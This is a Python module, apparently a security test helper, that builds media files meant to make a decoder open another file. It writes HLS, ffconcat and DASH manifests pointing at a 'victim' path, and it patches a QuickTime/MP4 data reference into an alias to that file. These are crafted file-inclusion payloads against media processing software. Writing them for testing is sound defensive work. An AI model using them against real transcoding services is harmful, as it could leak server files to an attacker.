"""Files that try to make a decoder open something else: playlists, scripts, external references."""

from __future__ import annotations

import struct
from pathlib import Path

_PARENTS = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def hls(victim: str) -> bytes:
    """Return an HLS playlist whose only segment is `victim`."""
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{victim}\n#EXT-X-ENDLIST\n".encode()


def ffconcat(victim: str) -> bytes:
    """Return an ffconcat script that plays `victim`."""
    return f"ffconcat version 1.0\nfile '{victim}'\n".encode()


def dash(victim: str) -> bytes:
    """Return a DASH manifest whose base is `victim`."""
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
        '<Period><AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="1">'
        f"<BaseURL>{victim}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    ).encode()


def with_external_reference(movie: Path, victim: Path) -> bytes:
    """Return `movie` with its samples said to lie in `victim`: a data reference of type alis (QuickTime alias)."""
    return _rebuilt(movie.read_bytes(), victim)


def _rebuilt(data: bytes, victim: Path) -> bytes:
    out, position = b"", 0
    while position + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, position)
        body = data[position + 8 : position + size]
        if kind in _PARENTS:
            body = _rebuilt(body, victim)
        elif kind == b"dref":
            body = bytes(4) + struct.pack(">I", 1) + _alias(victim)
        out += struct.pack(">I4s", len(body) + 8, kind) + body
        position += size
    return out


def _alias(victim: Path) -> bytes:
    path = str(victim).encode()
    record = bytes(6) + struct.pack(">HH", 0, 2) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    record += bytes([len(victim.name)]) + victim.name.encode().ljust(63, b"\0") + bytes(16)
    record += struct.pack(">HH", 0, 0) + bytes(16)
    record += struct.pack(">HH", 2, len(path)) + path + bytes(len(path) % 2)
    record += struct.pack(">HH", 0xFFFF, 0)
    body = bytes(4) + record  # flags 0: the samples are not in this file
    return struct.pack(">I4s", len(body) + 8, b"alis") + body
